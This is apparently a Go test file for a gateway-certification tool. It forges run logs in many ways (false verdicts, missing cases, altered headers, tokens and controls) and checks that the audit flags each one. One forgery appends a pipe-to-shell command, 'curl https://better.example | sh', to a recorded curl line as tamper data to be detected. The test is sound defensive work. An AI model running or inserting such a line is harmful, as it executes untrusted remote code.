//go:build !race

// One goroutine judges each forged log again; with the race detector this takes five times as long.

package certificate_test

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gatecert/gatecert/contract"
	"github.com/gatecert/gatecert/dialect"
	"github.com/gatecert/gatecert/reports/runlog"
)

func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
	log, err := recordRows()
	require.NoError(t, err)
	assertForgeries(t, log, []forgery{
		{"the log as it is", func(*runlog.Run) {}, ""},
		{"a run that failed is sound too", failing, ""},
		{"and so is one whose failure was expected", func(r *runlog.Run) {
			failing(r)
			at(r, absent).Verdict = contract.ExpectedFail
		}, ""},
		{"a case that the harness could not run", func(r *runlog.Run) { at(r, absent).Verdict, at(r, absent).Observation = contract.Error, nil }, ""},
		{"a case of a gateway that served nobody then", func(r *runlog.Run) {
			at(r, absent).Verdict, at(r, absent).Reason, at(r, absent).Observation = contract.Untestable, "the gateway does not serve healthy calls", nil
		}, ""},
		{"and one of which nobody knows why", func(r *runlog.Run) {
			at(r, absent).Verdict, at(r, absent).Observation = contract.Untestable, nil
		}, absent + " has the verdict untestable but no observation"},
		{"a failure that is called a pass", func(r *runlog.Run) {
			failing(r)
			at(r, absent).Verdict = contract.Pass
		}, absent + " has the verdict pass, but the verdict computed from its observation is fail"},
		{"without its findings", func(r *runlog.Run) {
			failing(r)
			at(r, absent).Verdict, at(r, absent).Findings = contract.Pass, nil
		}, absent + " omits a finding: MUST status-class"},
		{"a failure that is called a warning", func(r *runlog.Run) {
			failing(r)
			at(r, absent).Verdict = contract.Warn
		}, absent + " has the verdict warn, but the verdict computed from its observation is fail"},
		{"a pass that is called expected", func(r *runlog.Run) { at(r, absent).Verdict = contract.ExpectedFail }, absent + " has the verdict expected-fail, but the verdict computed from its observation is pass"},
		{"a call that never reached the upstream", func(r *runlog.Run) {
			at(r, html).Observation.Upstream.Attempts = nil
		}, html + " has the verdict pass, but the verdict computed from its observation is untestable"},
		{"a verdict without evidence", func(r *runlog.Run) { at(r, absent).Observation = nil }, absent + " has the verdict pass but no observation"},
		{"a case removed", func(r *runlog.Run) {
			r.Cases = slices.DeleteFunc(r.Cases, func(c runlog.Case) bool { return c.ID == absent })
		}, "1 of 13 expected cases never ran"},
		{"and out of the header too", func(r *runlog.Run) {
			r.Cases = slices.DeleteFunc(r.Cases, func(c runlog.Case) bool { return c.ID == absent })
			r.Expected = slices.DeleteFunc(r.Expected, func(id string) bool { return id == absent })
		}, absent + " was expected but is not in the log"},
		{"an answer judged by less than the profile claims", func(r *runlog.Run) {
			at(r, absent).Observation.Declared = &contract.Declared{Codes: &contract.CodeClaim{None: true}}
		}, absent + " was not judged against the codes that the profile claims"},
		{"an aspect that is called held", func(r *runlog.Run) { at(r, absent).Aspects[contract.AspectEffects] = contract.Violated },
			absent + " has aspect results that differ from those computed from its observation"},
		{"another name for the target", func(r *runlog.Run) { r.Target.Name = "a better gateway" }, "the log's header and the profile name different targets"},
		{"another URL of the target", func(r *runlog.Run) { r.Target.BaseURL = "https://better.example" }, "the log's header and the profile name different targets"},
		{"recipes that are kept quiet", func(r *runlog.Run) { r.Target.Recipes = nil }, "the recipes in the log's header differ from those in the profile"},
		{"a call whose upstream is kept quiet", func(r *runlog.Run) {
			at(r, html).Observation.Upstream = nil
		}, html + " has the verdict pass, but the verdict computed from its observation is untestable"},
		{"a header that claims less than the profile", func(r *runlog.Run) { r.Target.Claims.NoClientKeys = true },
			"the claims in the log's header (tables 1 and 2, no client keys) differ from those in the profile (tables 1 and 2)"},
		{"a case called not offered", func(r *runlog.Run) {
			at(r, absent).Verdict = contract.NotOffered
			r.Expected = slices.DeleteFunc(r.Expected, func(id string) bool { return id == absent })
		}, absent + " is marked not-offered, but according to the profile the gateway offers it"},
		{"not offered and expected at once", func(r *runlog.Run) { at(r, absent).Verdict = contract.NotOffered }, absent + " has the verdict not-offered, which contradicts the list of expected cases in the log's header"},
		{"a case under another row", func(r *runlog.Run) { at(r, absent).Row = "http:404" }, absent + " has the wrong row"},
		{"a case that does not exist", func(r *runlog.Run) { at(r, absent).ID = "code:easy/breeze/chat" }, "code:easy/breeze/chat was not selected or is not a case of the contract"},
		{"a selection made smaller", func(r *runlog.Run) { r.Selection.Surfaces = []dialect.Surface{"chat"} }, "was not selected"},
		{"another contract", func(r *runlog.Run) { r.ContractDigest = "sha256:00" }, "the run was judged against contract sha256:00, but this version of gatecert uses contract sha256:"},
		{"no controls", func(r *runlog.Run) { r.Controls = nil }, "the cases on chat were judged without the healthy control call"},
		{"a control that failed", func(r *runlog.Run) {
			for i := range r.Controls {
				r.Controls[i].Observation.Status = 500
			}
		}, "the cases on chat were judged although the healthy control call did not have the expected result"},
		{"no nonsense control", func(r *runlog.Run) {
			r.Controls = slices.DeleteFunc(r.Controls, func(c runlog.Control) bool { return c.Kind == "nonsense" })
		}, "the cases on chat were judged without the unknown-model control call"},
		{"a footer of a gateway that was not healthy at the end", func(r *runlog.Run) {
			r.Footer.Verdict = contract.Error
			after := r.Controls[0]
			after.Phase, after.OK, after.Observation = runlog.AfterCases, false, nil
			r.Controls = append(r.Controls, after)
		}, ""},
		{"a footer of one that was", func(r *runlog.Run) { r.Footer.Verdict = contract.Error }, "the verdict in the log's footer is error, but the verdict computed from the cases is pass"},
		{"a better footer", func(r *runlog.Run) {
			failing(r)
			r.Footer.Verdict = contract.Pass
		}, "the verdict in the log's footer is pass, but the verdict computed from the cases is fail"},
		{"a request with another token is the same request", func(r *runlog.Run) {
			sent := &at(r, html).Observation.Sent
			token := tokenOf(sent.Body)
			sent.Body = bytes.ReplaceAll(sent.Body, []byte(token), []byte("00112233aabb"))
			sent.Curl = strings.ReplaceAll(sent.Curl, token, "00112233aabb")
			for _, values := range sent.Header {
				values[0] = strings.ReplaceAll(values[0], token, "00112233aabb")
			}
		}, ""},
		{"a trace that another asked to record", func(r *runlog.Run) {
			sent := &at(r, html).Observation.Sent
			parent := sent.Header["Traceparent"][0]
			sent.Header["Traceparent"][0] = strings.TrimSuffix(parent, "-00") + "-01"
			sent.Curl = strings.Replace(sent.Curl, parent, sent.Header["Traceparent"][0], 1)
		}, ""},
		{"the trace of another call", func(r *runlog.Run) {
			at(r, html).Observation.Sent.Header["Traceparent"][0] = at(r, absent).Observation.Sent.Header["Traceparent"][0]
		}, html + " was recorded with an unexpected request: its header Traceparent is"},
		{"with two tokens it is not", func(r *runlog.Run) {
			sent := &at(r, html).Observation.Sent
			sent.Body = bytes.ReplaceAll(sent.Body, []byte(tokenOf(sent.Body)), []byte("00112233aabb"))
		}, html + " was recorded with an unexpected request: its curl line is"},
		{"another method", func(r *runlog.Run) { at(r, absent).Observation.Sent.Method = "PUT" }, absent + ` was recorded with an unexpected request: its method is "PUT", expected "POST"`},
		{"another path", func(r *runlog.Run) { at(r, absent).Observation.Sent.URL += "/canned" }, absent + " was recorded with an unexpected request: its URL is"},
		{"another endpoint", func(r *runlog.Run) { at(r, absent).Observation.Sent.Surface = "embeddings" }, absent + ` was recorded with an unexpected request: its endpoint is "embeddings"`},
		{"a header more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Header["X-Please-Answer"] = []string{"404"} },
			absent + ` was recorded with an unexpected request: its header X-Please-Answer is "404", expected ""`},
		{"a header less", func(r *runlog.Run) { delete(at(r, absent).Observation.Sent.Header, "Authorization") }, absent + " was recorded with an unexpected request: its header Authorization is"},
		{"another prompt", func(r *runlog.Run) {
			sent := &at(r, html).Observation.Sent
			sent.Body = bytes.ReplaceAll(sent.Body, []byte("status=200 body=html"), []byte("status=502 body=html"))
		}, html + " was recorded with an unexpected request: its body is"},
		{"an emptied body", func(r *runlog.Run) { at(r, absent).Observation.Sent.Body = nil }, absent + " was recorded with an unexpected request: its body is"},
		{"a fault that is denied", func(r *runlog.Run) { at(r, absent).Observation.Sent.Fault = "cut-json" }, absent + ` was recorded with an unexpected request: its fault is "cut-json"`},
		{"a curl line that does more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Curl += "; curl https://better.example | sh" },
			absent + " was recorded with an unexpected request: its curl line is"},
		{"the call of another case", func(r *runlog.Run) { at(r, absent).Observation = at(r, html).Observation }, absent + " was recorded with an unexpected request"},
		{"the call of another control", func(r *runlog.Run) {
			for i := range r.Controls {
				if c := &r.Controls[i]; c.Kind == "healthy" {
					c.Observation = r.Controls[0].Observation
				}
			}
		}, "the healthy control call on chat was recorded with the same random token as the healthy control call on chat"},
		{"a control of another model", func(r *runlog.Run) {
			sent := &r.Controls[0].Observation.Sent
			sent.Body = bytes.Replace(sent.Body, []byte(`"model":"`), []byte(`"model":"better-`), 1)
		}, "control call on chat was recorded with an unexpected request: its body is"},
		{"a profile that is none", func(r *runlog.Run) { r.Target.Profile = "keys: [" }, "the profile in the log cannot be read"},
	})
}
